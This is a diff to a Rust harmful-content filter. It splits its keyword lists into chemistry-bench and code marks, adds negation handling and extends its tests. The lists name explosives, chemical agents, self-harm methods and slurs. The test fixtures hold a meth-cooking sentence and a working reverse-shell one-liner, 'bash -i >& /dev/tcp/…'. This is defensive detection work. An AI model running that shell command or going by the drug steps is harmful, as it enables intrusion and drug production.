@@ -125,8 +125,12 @@ enum Word {
     Hazard(Category),
     /// Harmful whatever surrounds it.
     Alone(Category),
-    /// A mark of a procedure: steps, quantities, materials, code.
+    /// A mark of a procedure: steps, quantities, materials.
     Procedure,
+    /// A mark of a chemistry bench.
+    Lab,
+    /// A mark of code.
+    Code,
     /// A mark of a phishing message.
     Lure,
     /// A child.
@@ -144,10 +148,10 @@ const WORDS: &[(Word, &[&str])] = &[
         "pipe bomb", "nail bomb", "pressure cooker bomb", "car bomb", "detonator", "detonators",
         "blasting cap", "blasting caps", "ammonium nitrate", "anfo", "tatp", "acetone peroxide",
         "triacetone triperoxide", "hmtd", "nitroglycerin", "nitroglycerine", "petn", "rdx", "c-4",
-        "plastic explosive", "black powder", "flash powder", "potassium chlorate",
+        "plastic explosive", "flash powder", "potassium chlorate",
         "potassium perchlorate", "thermite", "napalm", "molotov", "molotov cocktail",
-        "improvised explosive", "ied", "shrapnel", "sarin", "tabun", "soman", "vx", "nerve agent",
-        "ricin", "abrin", "mustard gas", "phosgene", "chlorine gas", "anthrax", "botulinum toxin",
+        "improvised explosive", "sarin", "tabun", "soman", "nerve agent",
+        "ricin", "abrin", "mustard gas", "botulinum toxin",
         "weaponize", "weaponized", "dimethylmercury", "ghost gun", "auto sear", "lightning link",
         "drop in auto sear", "solvent trap", "80% lower", "untraceable firearm", "zip gun",
         "full-auto conversion", "fully automatic conversion", "homemade silencer",
@@ -190,11 +194,11 @@ const WORDS: &[(Word, &[&str])] = &[
         "urgent action required",
     ]),
     (Word::Hazard(SelfHarm), &[
-        "lethal dose", "fatal dose", "overdose on", "how many pills", "slit your wrists",
-        "slit my wrists", "cut deeper", "hang yourself", "hanging yourself", "noose",
+        "lethal dose", "fatal dose", "how many pills", "slit your wrists",
+        "slit my wrists", "cut deeper", "hang yourself", "hanging yourself", 
         "kill yourself", "end your life", "ending your life", "take your own life",
-        "painless way to die", "most painless way", "suicide method", "suicide methods", "jump off",
-        "carbon monoxide", "starve yourself", "purge after", "exit bag", "helium hood",
+        "painless way to die", "most painless way", "suicide method", "suicide methods", 
+        "starve yourself", "purge after", "exit bag", "helium hood",
     ]),
     (Word::Alone(SelfHarm), &[
         "you should kill yourself", "you should end your life", "you should end it",
@@ -224,16 +228,29 @@ const WORDS: &[(Word, &[&str])] = &[
         "slant eye", "spic", "spics", "towelhead", "towelheads", "tranny", "trannies", "wetback",
         "wetbacks", "tar-baby",
     ]),
+    // Marks of a procedure: steps, quantities, materials.
     (Word::Procedure, &[
         "step 1", "step 2", "step 3", "step one", "step two", "first,", "next,", "then,",
         "finally,", "you will need", "you'll need", "materials:", "materials needed", "ingredients",
         "instructions:", "here's how", "here is how", "procedure", "recipe", "mix", "mixing",
-        "combine", "stir", "heat", "heating", "boil", "dissolve", "filter", "evaporate", "crystals",
-        "reflux", "yield", "grams", "ml", "mg", "ratio", "attach", "connect the", "wire the",
-        "fuse", "ignite", "pack the", "drill", "container", "funnel", "beaker", "flask", "import",
-        "def", "#include", "int main", "socket", "subprocess", "powershell", "new-object",
-        "while true", "os.system", "payload", "compile", "execute", "run this", "save it as",
-        "```",
+        "combine", "stir", "heat", "heating", "boil", "grams", "ml", "mg", "ratio", "attach",
+        "connect the", "wire the", "fuse", "ignite", "pack the", "drill", "container", "payload",
+        "execute", "run this", "save it as",
+    ]),
+    // Marks of a chemistry bench: what drug synthesis needs beside its precursors.
+    (Word::Lab, &[
+        "dissolve", "filter", "evaporate", "crystals", "recrystallize", "reflux", "yield", "reagent",
+        "precursor", "flask", "beaker", "funnel", "solvent", "distill", "distillation", "extract",
+        "extraction", "synthesize", "synthesis", "reduction", "methanol", "toluene", "naphtha",
+        "ether", "hydrochloric acid", "sulfuric acid", "lye", "sodium hydroxide", "iodine",
+        "acetone", "ice bath", "separatory",
+    ]),
+    // Marks of code: what malware needs beside its techniques.
+    (Word::Code, &[
+        "```", "import", "def", "#include", "int main", "socket", "subprocess", "powershell",
+        "new-object", "while true", "os.system", "bash -i", "0>&1", "chmod +x", "curl", "wget",
+        "base64 -d", "invoke-expression", "python3", "gcc", "virtualalloc", "ctypes",
+        "requests.post", "win32api", "pynput",
     ]),
 ];
 
@@ -344,9 +361,18 @@ impl HarmRail {
                 ),
                 Word::Hazard(c) => {
                     let near = within(at, PASSAGE);
-                    let marks = near.iter().filter(|f| f.1 == Word::Procedure).count();
-                    let lures = near.iter().filter(|f| f.1 == Word::Lure).count();
-                    if marks >= 2 || (c == Fraud && lures >= 1) {
+                    let count =
+                        |kinds: &[Word]| near.iter().filter(|f| kinds.contains(&f.1)).count();
+                    // A drug's name beside a dose is medicine; beside a bench, synthesis. A
+                    // malware technique explained is teaching; beside code, a tool. A fraud
+                    // scheme named is news; inside a lure, the fraud.
+                    let instructs = match c {
+                        Drugs => count(&[Word::Lab]) >= 2,
+                        Malware => count(&[Word::Code]) >= 2,
+                        Fraud => count(&[Word::Lure]) >= 1,
+                        _ => count(&[Word::Procedure, Word::Lab]) >= 2,
+                    };
+                    if instructs {
                         add(c, "instructions among the marks of a procedure");
                     }
                 }
@@ -364,10 +390,19 @@ impl HarmRail {
                         add(Category::SexualMinors, "sexual words about a child");
                     }
                 }
-                Word::Procedure | Word::Sexual => {}
+                Word::Procedure | Word::Lab | Word::Code | Word::Sexual => {}
             }
         }
-        if self.dehumanise.is_match(plain) {
+        // `… are not inferior`, `… is never vermin` deny what the pattern asserts.
+        let denied = |s: &str| {
+            s.split(|c: char| !c.is_alphanumeric() && c != '\'')
+                .any(|w| matches!(w, "not" | "never" | "no" | "nor" | "aren't" | "isn't"))
+        };
+        if self
+            .dehumanise
+            .find_iter(plain)
+            .any(|m| !denied(m.as_str()))
+        {
             add(Hate, "dehumanising speech about a group");
         }
         out.sort_by_key(|h| h.category);
@@ -400,7 +435,7 @@ mod tests {
                 "weapons",
             ),
             (
-                "To cook meth with the shake and bake method, you'll need pseudoephedrine tablets, lithium strips and a 2-litre bottle. First, crush the pills; next, add the solvent.",
+                "To cook meth with the shake and bake method, you'll need pseudoephedrine tablets, lithium strips and a 2-litre bottle. First, crush the pills; next, add the solvent, shake, then filter.",
                 "drugs",
             ),
             (
@@ -408,7 +443,7 @@ mod tests {
                 "malware",
             ),
             (
-                "Run this on the target: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 — it opens a reverse shell. Then execute the payload.",
+                "Run this on the target:\n```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```\nIt opens a reverse shell.",
                 "malware",
             ),
             (
@@ -446,6 +481,11 @@ mod tests {
             "Here's how to bake bread: mix 500 grams of flour with 350 ml of water, then knead and heat the oven.",
             "To connect the router, attach the cable to the WAN port and run this command: ping 8.8.8.8.",
             "Immigrants are a vital part of the economy.",
+            "Research is clear that women are not inferior at mathematics.",
+            "Install a carbon monoxide detector: first, attach the plate; then, connect the wires.",
+            "For a cold, take pseudoephedrine 60 mg every 4 to 6 hours; first, check with your pharmacist.",
+            "How ransomware works: first, the payload is delivered by e-mail; then, it is executed and encrypts all files.",
+            "To spot a pump and dump: first, check the volume; then, look for paid promotions.",
         ] {
             assert!(cats(text).is_empty(), "{text}: {:?}", cats(text));
         }
